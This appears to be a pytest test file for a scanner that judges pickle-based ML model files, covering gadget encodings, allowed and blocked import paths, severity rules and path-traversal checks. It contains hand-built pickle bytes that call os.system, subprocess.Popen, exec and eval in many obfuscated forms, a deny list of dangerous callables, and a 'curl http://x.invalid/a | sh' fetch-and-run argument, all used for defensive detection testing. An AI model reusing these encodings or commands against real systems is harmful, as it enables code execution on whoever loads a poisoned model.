"""Verdicts by class of attack: gadgets times encodings, names times lists, and what honest files do."""

from __future__ import annotations

import pickle
from collections import Counter, OrderedDict, defaultdict
from datetime import UTC, datetime
from pathlib import PurePosixPath

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlsbom.judges.callables import Kind, callables
from mlsbom.judges.paths import escape, link_escape
from tests.pickle.build import PACKS, call, line_of, name, rules_of, text, verdict_of

JUDGE = callables(PACKS)


def encodings(module: str, attribute: str, argument: str = "true") -> dict[str, bytes]:
    """One call in each form that an unpickler takes."""
    m, a, s = module.encode(), attribute.encode(), argument.encode()
    lined = b"c" + m + b"\n" + a + b"\n"
    return {
        "global": lined + b"(S'" + s + b"'\ntR.",
        "inst": b"(S'" + s + b"'\ni" + m + b"\n" + a + b"\n.",
        "obj": b"(" + lined + b"S'" + s + b"'\no.",
        "stack-global": call(module, attribute, text(argument)),
        "memo": b"\x80\x04" + text(attribute) + b"\x940" + text(module) + b"\x94h\x00\x93\x940h\x02(" + text(argument) + b"tR.",
        "dup": b"\x80\x04" + name(module, attribute) + b"20(" + text(argument) + b"tR.",
        "behind padding": pickle.dumps([1], 4) + b"\0" * 64 + call(module, attribute, text(argument)),
        "before damage": call(module, attribute, text(argument))[:-1] + b"\xff\xff",
        "as a key": b"\x80\x04}" + call(module, attribute, text(argument))[2:-1] + b"Ns.",
        "frame": b"\x80\x04\x95"
        + (len(call(module, attribute, text(argument))) - 2).to_bytes(8, "little")
        + call(module, attribute, text(argument))[2:],
    }


@pytest.mark.parametrize("form", encodings("a", "b"))
@pytest.mark.parametrize(
    "gadget",
    [
        "os system",
        "posix popen",
        "__builtin__ eval",
        "subprocess Popen",
        "commands getoutput",
        "torch.hub load",
        "bdb Bdb.run",
        "numpy.f2py.crackfortran getlincoef",
    ],
)
def test_gadgets_in_every_encoding(gadget: str, form: str) -> None:
    module, attribute = gadget.split(" ")
    assert verdict_of(encodings(module, attribute)[form]) == "malicious"


@pytest.mark.parametrize("suffix", ["pkl", "bin", "dat", "safetensors", "gguf", "onnx", "npy", "txt", "json", "pt", "weights", "1"])
def test_the_name_decides_nothing(suffix: str) -> None:
    assert verdict_of(call("os", "system", text("true")), f"model.{suffix}") == "malicious"


@pytest.mark.parametrize(
    "path",
    [
        "os.system", "nt.system", "posix.system", "builtins.exec", "__builtin__.eval", "sys.modules", "torch.os.system", "json.codecs.builtins.eval", "random._os.system", "numpy.load",
        "operator.call", "types.FunctionType", "pip.main", "asyncio.unix_events._UnixSubprocessTransport._start", "statistics.random._os.system", "collections.OrderedDict.__init__.__globals__",
        "ensurepip._run_pip", "tokenize.open", "zipfile.ZipFile", "sklearn.some_new_module.unlisted_function", "torch.unlisted_function", "torch.serialization.os.system",
    ],
)  # fmt: skip
def test_bad_names(path: str) -> None:
    judged = JUDGE.judge_path(path)
    assert judged.bad or judged.traversal, judged


@pytest.mark.parametrize(
    "path",
    [
        "collections.OrderedDict", "copy_reg._reconstructor", "__builtin__.set", "numpy.core.multiarray._reconstruct", "numpy._core.multiarray.scalar", "torch._utils._rebuild_tensor_v2",
        "torch.FloatStorage", "sklearn.ensemble.forest.RandomForestClassifier", "sklearn.tree._tree.Tree", "torch.nn.modules.linear.Linear", "argparse.Namespace", "pathlib.PosixPath",
        "xgboost.core.Booster", "pandas.core.frame.DataFrame", "transformers.training_args.TrainingArguments", "datetime.datetime",
    ],
)  # fmt: skip
def test_good_names(path: str) -> None:
    assert JUDGE.judge_path(path).good


@pytest.mark.parametrize("path", ["acme.models.Net", "__main__.Net", "tests.thing.Outer.Inner"])
def test_unknown_names(path: str) -> None:
    judged = JUDGE.judge_path(path)
    assert judged.kind is Kind.UNKNOWN and not judged.bad


@given(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30),
)
@settings(max_examples=200)
def test_any_name_is_judged(module: str, attribute: str) -> None:
    judged = JUDGE.judge(module, attribute)
    assert not judged.good or judged.listed or module.startswith("__torch__")


@pytest.mark.parametrize(
    ("data", "rule", "severity"),
    [
        (b"\x80\x04" + name("subprocess", "Popen") + b")\x81.", "PICKLE-DANGEROUS-CALL", "medium"),
        (b"\x80\x04" + name("subprocess", "Popen") + b")\x81}" + text("a") + b"K\x01sb.", "PICKLE-DANGEROUS-CALL", "high"),
        (b"\x80\x04" + name("os", "system") + b"0N.", "PICKLE-DANGEROUS-STATE", "medium"),
        (b"\x80\x04" + name("os", "system") + b".", "PICKLE-DANGEROUS-STATE", "high"),
        (call("acme.m", "make", text("x")), "PICKLE-UNKNOWN-CALLABLE", "medium"),
        (call("acme.m", "make", text("curl http://x.invalid/a | sh")), "PICKLE-UNKNOWN-CALLABLE", "high"),
        (call("functools", "partial", name("os", "system")), "PICKLE-DUAL-USE", "high"),
        (call("builtins", "getattr", name("collections", "Counter"), text("__class__")), "PICKLE-DUAL-USE", "high"),
        (call("copyreg", "_reconstructor", name("os", "system"), name("builtins", "object"), b"N"), "PICKLE-ARGUMENT", "high"),
        (call("torch.storage", "_load_from_bytes", b"c__main__\nload\n)R"), "PICKLE-ARGUMENT", "high"),
        (b"\x80\x04" + name("sys", "modules") + text("x") + b"K\x01s.", "PICKLE-SHADOWING", "high"),
        (b"\x80\x04" + name("collections", "OrderedDict") + b")R}" + text("__class__") + name("acme", "X") + b"sb.", "PICKLE-SHADOWING", "high"),
        (b"\x80\x04" + name("builtins", "getattr") + b"(" + name("acme", "x") + text("y") + b"tR)R.", "PICKLE-COMPUTED-NAME", "high"),
    ],
)  # fmt: skip
def test_severities(data: bytes, rule: str, severity: str) -> None:
    assert rules_of(data).get(rule) == severity


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_honest_objects_are_clean(protocol: int) -> None:
    value = {
        "a": np.arange(4.0), "b": OrderedDict(x=1), "c": defaultdict(list), "d": Counter("aab"), "e": datetime(2026, 1, 1, tzinfo=UTC), "f": PurePosixPath("x/y"), "g": slice(1, 2),
        "h": {1, 2}, "i": np.random.RandomState(0), "j": np.float32(1), "k": np.log1p, "l": complex(1, 2), "m": bytearray(b"x"), "words": ["os.system", "import os", "eval"],
    }  # fmt: skip
    line = line_of(pickle.dumps(value, protocol))
    assert line["verdict"] == "clean", line["findings"]


def test_folding_shows_what_is_hidden() -> None:
    hidden = (
        b"\x80\x04"
        + name("builtins", "exec")
        + name("zlib", "decompress")
        + b"C"
        + bytes([len(z := __import__("zlib").compress(b"print(1)"))])
        + z
        + b"\x85R\x85R."
    )
    findings = line_of(hidden)["findings"]
    assert isinstance(findings, list) and "print(1)" in findings[0]["message"]


@pytest.mark.parametrize(
    ("path", "out"),
    [
        ("a/b", False),
        ("./a", False),
        ("a/../b", False),
        ("../a", True),
        ("/a", True),
        ("C:\\a", True),
        ("..\\a", True),
        ("a/../../b", True),
        ("nul", True),
        ("a\0b", True),
        ("~/x", True),
        ("a..b", False),
    ],
)
def test_path_rule(path: str, out: bool) -> None:
    assert (escape(path) is not None) == out


@pytest.mark.parametrize(
    ("member", "target", "out"), [("a/b", "../c", False), ("a/b", "../../c", True), ("a", "/etc/passwd", True), ("x/y/z", "../../q", False)]
)
def test_link_rule(member: str, target: str, out: bool) -> None:
    assert (link_escape(member, target) is not None) == out
